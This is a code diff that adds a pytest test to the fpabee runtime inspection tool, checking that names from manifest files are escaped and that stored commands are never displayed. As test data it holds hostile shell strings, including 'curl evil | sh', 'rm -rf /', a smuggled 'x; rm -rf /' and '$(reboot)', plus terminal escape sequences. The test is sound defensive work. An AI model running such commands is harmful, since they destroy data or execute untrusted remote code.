@@ -18,7 +18,7 @@ from fpabee.runtime.backends.cuda_probe import CudaDevice
 from fpabee.runtime.engines_folder import read_manifest, sha256_of, write_manifest
 from fpabee.runtime.inspect import chain_lines, main
 from fpabee.runtime.inspection import Part, chain_parts, target_states
-from fpabee.runtime.manifest import REFERENCE_NAME
+from fpabee.runtime.manifest import REFERENCE_NAME, NotBuilt
 from fpabee.runtime.reference import read_reference, write_reference
 
 from .device_double import install
@@ -43,6 +43,39 @@ def test_the_default_point_is_marked(
     shown = run(folder).stdout
     assert " fast, safe (default) " in shown
     assert "rule without an operating point: fpabee, threshold 0.1, measure jskd, " in shown
+
+
+NASTY = "\x1b]0;title\x07\x1b[2J\u202e[red]"
+
+
+def test_names_from_files_are_escaped_and_no_command_of_theirs_is_shown(
+    engine_copy: Callable[..., Path], set_points: Callable[..., None]
+) -> None:
+    folder = engine_copy()
+    set_points(folder, **{NASTY: Budget(exit=1)})
+    manifest = read_manifest(folder)
+    (name,) = manifest.targets
+    notes = {
+        "known": NotBuilt(
+            backend="tensorrt", precision="fp16", reason=NASTY, command="curl evil | sh"
+        ),
+        NASTY: NotBuilt(backend="x; rm -rf /", precision="fp16", reason="", command="rm -rf /"),
+        "odd": NotBuilt(backend="tensorrt", precision="$(reboot)", reason="", command="reboot"),
+    }
+    task = msgspec.structs.replace(manifest.task, labels=(NASTY, *manifest.task.labels[1:]))
+    targets = {**manifest.targets, NASTY: manifest.targets[name]}
+    changed = msgspec.structs.replace(manifest, task=task, targets=targets, not_built=notes)
+    write_manifest(folder, changed)
+    shown = run(folder).stdout
+    assert "\\x1b]0;title\\x07\\x1b[2J\\u202e[red]" in shown
+    assert shown.replace("\n", "").isprintable()
+    assert f"  there: fpabee-export --from {folder} --backend tensorrt --fp16\n" in shown
+    assert shown.count("  there: pip install -U fpabee\n") == 2
+    for command in ("curl", "rm -rf", "reboot"):
+        assert command not in shown
+    content = json.loads(run(folder, "--json").stdout)
+    assert content["labels"][0] == NASTY
+    assert content["not_built"]["known"]["command"] == "curl evil | sh"
 
 
 def test_json_holds_the_same(engines: Mapping[str, Path]) -> None:
